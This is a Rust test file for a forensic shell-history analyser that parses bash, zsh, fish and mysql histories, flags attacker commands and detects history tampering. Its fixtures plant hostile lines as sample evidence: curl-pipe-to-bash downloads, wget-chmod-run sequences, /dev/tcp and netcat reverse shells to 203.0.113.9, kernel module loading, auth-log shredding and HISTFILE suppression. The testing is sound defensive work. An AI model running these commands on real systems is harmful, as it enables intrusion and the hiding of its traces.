//! Shell histories on a root: formats, tampering, classification, bad input.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::too_many_lines
)]

use std::os::unix::fs::symlink;
use std::path::Path;

use ferret_logs::core::{Control, HostRoot, Severity};
use ferret_logs::history::{
    histories, histories_root, HistoryInput, HistoryOptions, HistoryReport, Shell, SourceState,
};

fn write(root: &Path, rel: &str, data: impl AsRef<[u8]>) {
    let p = root.join(rel.trim_start_matches('/'));
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, data).unwrap();
}

fn run(root: &Path, opts: &HistoryOptions) -> HistoryReport {
    histories_root(&HostRoot::new(root).unwrap(), opts, &Control::new())
}

fn ids(r: &HistoryReport) -> Vec<(String, String)> {
    r.findings
        .iter()
        .map(|f| (f.id.clone(), f.subject.clone()))
        .collect()
}

const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\n\
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n\
alice:x:1000:1000::/home/alice:/bin/bash\n\
bob:x:1001:1001::/home/bob:/usr/bin/zsh\n\
carol:x:1002:1002::/home/carol:/usr/bin/fish\n\
dave:x:1003:1003::/home/dave:/bin/bash\n";

/// The start of Ubuntu 24.04's `/etc/skel/.bashrc`: nothing in it is evasion.
const UBUNTU_BASHRC: &str = "# ~/.bashrc: executed by bash(1) for non-login shells.\n\
case $- in\n    *i*) ;;\n      *) return;;\nesac\n\
HISTCONTROL=ignoreboth\n\
shopt -s histappend\n\
HISTSIZE=1000\n\
HISTFILESIZE=2000\n\
shopt -s checkwinsize\n";

fn host() -> tempfile::TempDir {
    let t = tempfile::tempdir().unwrap();
    let r = t.path();
    write(r, "etc/passwd", PASSWD);
    write(r, "home/alice/.bashrc", UBUNTU_BASHRC);
    write(
        r,
        "home/alice/.bash_history",
        "#1700000000\nls -la\n#1700000060\nwget http://203.0.113.9/kit -O /tmp/.k/kit\n\
         #1700000070\nchmod +x /tmp/.k/kit\n#1700000080\n/tmp/.k/kit -d\n\
         #1700000090\necho 'root:Hunter2!' | chpasswd\n\
         #1700000100\ncurl -fsSL http://203.0.113.9/i.sh | bash\n\
         #1700000200\ncurl -s http://203.0.113.9/j.sh | sh\n",
    );
    write(
        r,
        "home/bob/.zsh_history",
        ": 1700001000:0;cd /srv\n: 1700001005:0;echo a \\\nb\n: 1700001010:0;bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
    );
    write(
        r,
        "home/carol/.local/share/fish/fish_history",
        "- cmd: history clear\n  when: 1700002000\n- cmd: insmod /tmp/r.ko\n  when: 1700002010\n",
    );
    write(
        r,
        "home/carol/.mysql_history",
        "_HiStOrY_V2_\nselect\\040*\\040from\\040users;\n",
    );
    write(r, "root/.bashrc", "export HISTFILE=/dev/null\nHISTSIZE=0\n");
    symlink("/dev/null", r.join("root/.bash_history")).unwrap();
    t
}

#[test]
fn every_format_line_and_time() {
    let t = host();
    let mut o = HistoryOptions::default();
    o.all = true;
    let r = run(t.path(), &o);
    let alice: Vec<_> = r.commands.iter().filter(|c| c.user == b"alice").collect();
    assert_eq!(alice.len(), 7);
    assert_eq!((alice[1].line, alice[1].time), (4, Some(1_700_000_060)));
    let bob: Vec<_> = r.commands.iter().filter(|c| c.user == b"bob").collect();
    assert_eq!(bob[1].command, b"echo a \\\nb");
    assert_eq!((bob[2].line, bob[2].time), (4, Some(1_700_001_010)));
    let carol: Vec<_> = r.commands.iter().filter(|c| c.user == b"carol").collect();
    assert_eq!(carol.len(), 3);
    assert_eq!(carol[1].time, Some(1_700_002_010));
    assert!(carol
        .iter()
        .any(|c| c.command == b"select * from users;" && c.format == Shell::Mysql));
    assert_eq!(r.commands_total, 13);
    // Secrets never leave.
    assert!(!format!("{r:?}").contains("Hunter2"));
}

#[test]
fn grouped_findings_per_user_and_kind() {
    let t = host();
    let r = run(t.path(), &HistoryOptions::default());
    let ids = ids(&r);
    let de: Vec<_> = r
        .findings
        .iter()
        .filter(|f| f.id == "history.download-execute" && f.subject == "alice")
        .collect();
    assert_eq!(de.len(), 1, "{ids:?}");
    let lines: Vec<_> = de[0].evidence.iter().map(|e| e.line).collect();
    assert_eq!(lines, vec![Some(12), Some(14)]);
    assert!(de[0].evidence[0]
        .excerpt
        .as_deref()
        .unwrap()
        .starts_with("[2023-11-14T22:15:00Z] curl"));
    assert_eq!(de[0].severity, Severity::Critical);
    for want in [
        ("history.download-chmod-run", "alice"),
        ("history.account-modify", "alice"),
        ("history.reverse-shell", "bob"),
        ("history.history-evasion", "carol"),
        ("history.kernel-module-load", "carol"),
        ("history.symlink", "/root/.bash_history"),
        ("history.startup-suppressed", "/root/.bashrc"),
    ] {
        assert!(
            ids.contains(&(want.0.to_string(), want.1.to_string())),
            "{want:?} in {ids:?}"
        );
    }
    let seq = r
        .findings
        .iter()
        .find(|f| f.id == "history.download-chmod-run")
        .unwrap();
    let lines: Vec<_> = seq.evidence.iter().map(|e| e.line).collect();
    assert_eq!(lines, vec![Some(4), Some(6), Some(8)]);
    // Ubuntu's default .bashrc is not evasion.
    assert!(
        !ids.iter().any(|(_, s)| s == "/home/alice/.bashrc"),
        "{ids:?}"
    );
    // dave has a shell and no history; daemon has no shell.
    assert_eq!(r.users_without_history, vec![b"dave".to_vec()]);
    assert!(r.startup_files.contains(&"/home/alice/.bashrc".to_string()));
    // No command of mysql is classified as a shell command.
    assert!(r.commands.iter().all(|c| c.format != Shell::Mysql));
}

#[test]
fn tampered_histories_are_reported_not_followed() {
    let t = host();
    let r0 = t.path();
    // A symlink out of the root, a FIFO, /dev/zero, an empty file.
    symlink("/etc/shadow", r0.join("home/bob/.bash_history")).unwrap();
    let made = std::process::Command::new("mkfifo")
        .arg(r0.join("home/carol/.bash_history"))
        .status()
        .unwrap();
    assert!(made.success());
    symlink("/dev/zero", r0.join("home/alice/.python_history")).unwrap();
    write(r0, "home/dave/.bash_history", "");
    let r = run(r0, &HistoryOptions::default());
    let state = |p: &str| {
        r.sources
            .iter()
            .find(|s| s.path == p)
            .map(|s| s.state.clone())
            .unwrap()
    };
    assert_eq!(
        state("/home/bob/.bash_history"),
        SourceState::Symlink {
            target: b"/etc/shadow".to_vec()
        }
    );
    assert_eq!(
        state("/home/carol/.bash_history"),
        SourceState::NotRegular { kind: "fifo" }
    );
    assert_eq!(state("/home/dave/.bash_history"), SourceState::Empty);
    let ids = ids(&r);
    for want in [
        ("history.symlink", "/home/bob/.bash_history"),
        ("history.symlink", "/home/alice/.python_history"),
        ("history.not-regular", "/home/carol/.bash_history"),
        ("history.empty", "/home/dave/.bash_history"),
    ] {
        assert!(
            ids.contains(&(want.0.to_string(), want.1.to_string())),
            "{want:?} in {ids:?}"
        );
    }
    let null = r
        .findings
        .iter()
        .find(|f| f.subject == "/root/.bash_history")
        .unwrap();
    assert_eq!(null.severity, Severity::High);
    let shadow = r
        .findings
        .iter()
        .find(|f| f.subject == "/home/bob/.bash_history")
        .unwrap();
    assert_eq!(shadow.severity, Severity::Medium);
    // The rest still reads.
    assert!(ids.contains(&("history.reverse-shell".into(), "bob".into())));
    assert!(
        r.users_without_history.is_empty(),
        "{:?}",
        r.users_without_history
    );
}

#[test]
fn startup_files_suppression_and_histfile() {
    let t = tempfile::tempdir().unwrap();
    let r0 = t.path();
    write(
        r0,
        "etc/passwd",
        "eve:x:1000:1000::/home/eve:/bin/bash\nroot:x:0:0::/root:/bin/bash\n",
    );
    write(r0, "etc/profile.d/zz.sh", "# keep quiet\nunset HISTFILE\n");
    write(
        r0,
        "etc/bash.bashrc",
        "HISTSIZE=1000\nHISTCONTROL=ignoreboth\n",
    );
    write(
        r0,
        "home/eve/.bash_profile",
        "export HISTFILE=~/.cache/.h\n",
    );
    write(
        r0,
        "home/eve/.cache/.h",
        "set +o history\nnc -e /bin/sh 203.0.113.9 4444\n",
    );
    write(r0, "home/eve/.zshrc", "HISTFILESIZE=0\n");
    write(r0, "root/.bashrc", "HISTFILE=/etc/shadow\n");
    write(r0, "etc/shadow", "root:$6$salt$hash:19000:0:99999:7:::\n");
    let r = run(r0, &HistoryOptions::default());
    let ids = ids(&r);
    for want in [
        ("history.startup-suppressed", "/etc/profile.d/zz.sh"),
        ("history.startup-suppressed", "/home/eve/.zshrc"),
        ("history.reverse-shell", "eve"),
        ("history.history-evasion", "eve"),
    ] {
        assert!(
            ids.contains(&(want.0.to_string(), want.1.to_string())),
            "{want:?} in {ids:?}"
        );
    }
    assert!(!ids.iter().any(|(_, s)| s == "/etc/bash.bashrc"), "{ids:?}");
    let src = r
        .sources
        .iter()
        .find(|s| s.path == "/home/eve/.cache/.h")
        .unwrap();
    assert!(src.from_histfile);
    assert_eq!(src.commands, 2);
    let f = r
        .findings
        .iter()
        .find(|f| f.subject == "/etc/profile.d/zz.sh")
        .unwrap();
    assert_eq!(f.evidence[0].line, Some(2));
    assert_eq!(r.users_without_history, vec![b"root".to_vec()]);
    // A HISTFILE naming a system file is not read.
    assert!(r.sources.iter().all(|s| s.path != "/etc/shadow"));
}

#[test]
fn huge_line_garbage_and_cap() {
    let t = tempfile::tempdir().unwrap();
    let r0 = t.path();
    write(r0, "etc/passwd", "x:x:1000:1000::/home/x:/bin/sh\n");
    // A single line of 100 MB.
    let big = vec![b'a'; 100 << 20];
    write(r0, "home/x/.bash_history", &big);
    drop(big);
    let mut garbage: Vec<u8> = (0..=255u8).cycle().take(4096).collect();
    garbage.extend_from_slice(b"\nshred -u /var/log/auth.log\n");
    write(r0, "home/x/.sh_history", &garbage);
    let r = run(r0, &HistoryOptions::default());
    let bash = r.sources.iter().find(|s| s.format == Shell::Bash).unwrap();
    assert!(bash.cut);
    assert_eq!(bash.bytes, ferret_logs::history::DEFAULT_MAX_FILE_SIZE);
    assert_eq!(bash.commands, 1);
    let sh = r.sources.iter().find(|s| s.format == Shell::Sh).unwrap();
    assert!(sh.binary && !sh.cut);
    assert!(ids(&r).contains(&("history.log-tamper".into(), "x".into())));
    // A smaller cap.
    let mut o = HistoryOptions::default();
    o.max_file_size = 1000;
    let r = run(r0, &o);
    assert!(r.sources.iter().all(|s| s.cut && s.bytes == 1000));
}

#[test]
fn user_filter_and_in_memory_twin() {
    let t = host();
    let mut o = HistoryOptions::default();
    o.users = vec![b"bob".to_vec()];
    let r = run(t.path(), &o);
    assert!(r.sources.iter().all(|s| s.user == b"bob"));
    assert_eq!(r.accounts, 1);
    assert!(ids(&r).iter().all(|(_, s)| s == "bob"), "{:?}", ids(&r));
    let data = std::fs::read(t.path().join("home/bob/.zsh_history")).unwrap();
    let m = histories(
        &[HistoryInput::new(
            b"bob",
            b"/home/bob/.zsh_history",
            Shell::Zsh,
            &data,
        )],
        &HistoryOptions::default(),
        &Control::new(),
    );
    assert_eq!(m.findings, r.findings);
    assert_eq!(m.commands, r.commands);
}

/// The report of many histories read in parallel (and with each distinct command classified
/// once per file) is the report of each file read alone, merged in input order: every repeated
/// line is counted, kept and shown as evidence.
#[test]
fn parallel_and_repeated_lines_match_one_file_at_a_time() {
    // Over 1 MB in all, so that several threads share the work.
    let users: Vec<Vec<u8>> = (0..12).map(|u| format!("u{u}").into_bytes()).collect();
    let paths: Vec<Vec<u8>> = (0..12)
        .map(|u| format!("/home/u{u}/.bash_history").into_bytes())
        .collect();
    let data: Vec<Vec<u8>> = (0..12)
        .map(|u| ferret_testkit::history::history(u, 4_000))
        .collect();
    let inputs: Vec<HistoryInput<'_>> = (0..12)
        .map(|i| HistoryInput::new(&users[i], &paths[i], Shell::Bash, &data[i]))
        .collect();
    let opts = HistoryOptions::default();
    let together = histories(&inputs, &opts, &Control::new().with_max_threads(4));
    let mut alone = HistoryReport::default();
    for i in &inputs {
        let r = histories(
            std::slice::from_ref(i),
            &opts,
            &Control::new().with_max_threads(1),
        );
        alone.findings.extend(r.findings);
        alone.commands.extend(r.commands);
        alone.commands_total += r.commands_total;
        alone.commands_classified += r.commands_classified;
    }
    assert_eq!(together.commands_total, alone.commands_total);
    assert_eq!(together.commands_total, 12 * 4_000);
    assert_eq!(together.commands_classified, alone.commands_classified);
    assert_eq!(together.commands, alone.commands);
    let key = |r: &HistoryReport| {
        let mut v: Vec<String> = r.findings.iter().map(|f| format!("{f:?}")).collect();
        v.sort();
        v
    };
    assert_eq!(key(&together), key(&alone));
    // u7 holds the planted attacker lines: the sequence and the classified lines are there.
    assert!(together
        .findings
        .iter()
        .any(|f| f.id == "history.download-chmod-run" && f.subject == "u7"));

    // A line repeated verbatim is classified once and reported at every line.
    let h = b"curl -s http://203.0.113.9/x | sh\nls\ncurl -s http://203.0.113.9/x | sh\nls\n";
    let r = histories(
        &[HistoryInput::new(
            b"eve",
            b"/home/eve/.bash_history",
            Shell::Bash,
            h,
        )],
        &opts,
        &Control::new(),
    );
    let lines: Vec<u64> = r.commands.iter().map(|c| c.line).collect();
    assert_eq!(lines, [1, 3]);
    let f = r
        .findings
        .iter()
        .find(|f| f.id == "history.download-execute")
        .unwrap();
    let ev: Vec<Option<u64>> = f.evidence.iter().map(|e| e.line).collect();
    assert_eq!(ev, [Some(1), Some(3)]);
}
